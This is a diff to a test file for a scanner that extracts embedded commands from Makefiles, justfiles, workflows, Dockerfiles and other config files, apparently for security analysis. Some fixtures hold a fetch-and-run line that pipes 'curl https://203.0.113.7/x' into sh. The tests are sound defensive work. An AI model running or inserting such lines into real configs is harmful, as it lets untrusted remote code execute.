@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { languageOf } from '../../../scanner/fact/language.ts';
 import { rawOffset } from '../../../scanner/fact/source.ts';
@@ -94,7 +95,7 @@ describe('a file that builds', () => {
     expect(result.embedded.map((one) => one.text.trim())).toEqual([
       'apt-get update \\\n  # in between\n  && curl -s https://203.0.113.7/x | sh',
       "sh -c 'id -u'",
-      '<<EOF\nwhoami\nEOF',
+      'whoami',
       'curl -f http://localhost/',
       'node a.js',
     ]);
@@ -114,6 +115,62 @@ describe('a file that builds', () => {
       'shell: curl https://203.0.113.7/x | sh\necho $HOME ?',
       'shell: id -u',
     ]);
+  });
+});
+
+describe('a makefile of another form', () => {
+  it.each<[string, string, readonly string[]]>([
+    ['a.mk', 'define SEND\nid -u\nendef\nA := $(SEND)\n', ['shell: id -u']],
+    ['a.mk', 'all: a ; @id -u\n\tid -g\n', ['shell: id -u\nid -g']],
+    ['a.mk', 'A != id -u\n', ['shell: id -u']],
+    ['a.mk', 'A = $(shell id $(addsuffix x,y) -u)\n', ['shell: id ? -u']],
+    ['a.mk', 'SHELL := /usr/bin/python3.12\nall:\n\tf()\n', ['python: f()']],
+    ['a.mk', 'A = id\nA += -u\nall:\n\t$(A)\n', ['shell: id -u']],
+    ['justfile', 'x := `id -u`\na:\n    echo {{x}}\n', ['shell: id -u', 'shell: echo `id -u`']],
+    ['justfile', 'set shell := ["python3", "-c"]\na:\n    f()\n', ['python: f()']],
+    ['a.mk', 'ifeq ($(A),b)\nall: b\nendif\n', []],
+  ])('gives its commands: %s %s', (path, text, expected) => {
+    expect(programs(path, text)).toEqual(expected);
+  });
+});
+
+describe('front ends of settings', () => {
+  const pieces = fc.constantFrom(
+    ...'define |endef|include a |SHELL := |$(shell |) |\t|\n|all: ; |`|{{|}}|x = |commands =|[testenv]|{env:A}|!|- |run: |  |env:|${{ secrets.A }}|"|\'|RUN |COPY <<E a|\nE\n|<<E|command: |args: |[|]|,|:'.split(
+      '|',
+    ),
+  );
+  it.each([
+    'Makefile',
+    'justfile',
+    'tox.ini',
+    '.gitconfig',
+    'Dockerfile',
+    '.github/workflows/a.yml',
+    'compose.yml',
+  ])('read any text of %s, and keep each place in the file', (path) => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.oneof(pieces, fc.string({ maxLength: 6 })), { maxLength: 40 }),
+        (parts) => {
+          const text = parts.join('');
+          for (const program of analyse(path, text).embedded)
+            for (const piece of program.map) {
+              expect(piece.raw).toBeGreaterThanOrEqual(0);
+              expect(piece.raw).toBeLessThanOrEqual(text.length);
+            }
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+
+  it('keep the lines of a block of YAML', () => {
+    const text =
+      'jobs:\n  a:\n    steps:\n      - run: |\n          first\n\n            ${{ secrets.A }} second\n';
+    const [program] = analyse('.github/workflows/a.yml', text).embedded;
+    const at = rawOffset(program?.map ?? [], program?.text.indexOf('second') ?? 0);
+    expect(text.slice(at)).toBe('second\n');
   });
 });
 
@@ -142,7 +199,7 @@ describe('settings that hold commands', () => {
     [
       'docker-compose.yml',
       'services:\n  a:\n    command: ["sh", "-c"]\n    entrypoint: run me\n',
-      ['shell: sh', 'shell: -c', 'shell: run me'],
+      ['shell: sh -c', 'shell: run me sh -c'],
     ],
     [
       '.mcp.json',
@@ -168,6 +225,50 @@ describe('settings that hold commands', () => {
     ['config.toml', "[mcp_servers.a]\n'command' = '''\nid\n-u'''\n", ['shell: id\n-u']],
     ['pyproject.toml', '[tool.poe.tasks."a b"]\nshell = "id \\u002du"\n', ['shell: id -u']],
     ['a.yaml', 'install: Read the text\ncommands: [a, b]\n', []],
+    [
+      '.github/workflows/a.yml',
+      'env:\n  T: ${{ secrets.KEY }}\njobs:\n  a:\n    steps:\n      - run: a "$T" \'${{ secrets.B }}\' ${{ github.sha }}\n',
+      [`shell: T=''"\${KEY}"''\na "$T" ''"\${B}"'' ?`],
+    ],
+    [
+      '.github/workflows/a.yml',
+      'jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: f()\n',
+      ['javascript: f()'],
+    ],
+    [
+      'pod.yaml',
+      'spec:\n  containers:\n    - command: [sh, -c]\n      args: ["id -u"]\n',
+      ["shell: sh -c 'id -u'"],
+    ],
+    [
+      'flow.yaml',
+      'script:\n  command: [python3]\n  source: f()\n',
+      ['shell: python3', 'python: f()'],
+    ],
+    ['play.yml', '- tasks:\n    - ansible.builtin.shell: id -u\n', ['shell: id -u']],
+    [
+      'user-data.yml',
+      'runcmd:\n  - id -u\n  - [sh, -c, id -g]\n',
+      ['shell: id -u', "shell: sh -c 'id -g'"],
+    ],
+    ['Taskfile.yml', 'tasks:\n  a: id -u\n  b:\n    - id -g\n', ['shell: id -u', 'shell: id -g']],
+    ['package.json', '{"lint-staged": {"*.js": ["id -u"]}}', ['shell: id -u']],
+    [
+      '.vscode/launch.json',
+      '{"configurations": [{"runtimeExecutable": "sh", "runtimeArgs": ["-c", "id -u"]}]}',
+      ["shell: sh -c 'id -u'"],
+    ],
+    [
+      'tox.ini',
+      '[testenv]\ndeps = a\ncommands =\n    - id {env:HOME}/a\n    id -g {posargs}\n',
+      ['shell: id ${HOME}/a\nid -g ?'],
+    ],
+    ['setup.cfg', '[metadata]\ncommands = Read the text\n', []],
+    [
+      '.gitconfig',
+      '[alias]\n\tst = status\n\tx = "!id -u"\n[core] pager = id -g\n',
+      ['shell: id -u', 'shell: id -g'],
+    ],
   ])('give them to the shell: %s', (path, text, expected) => {
     expect(programs(path, text).slice(0, 4)).toEqual(expected);
   });
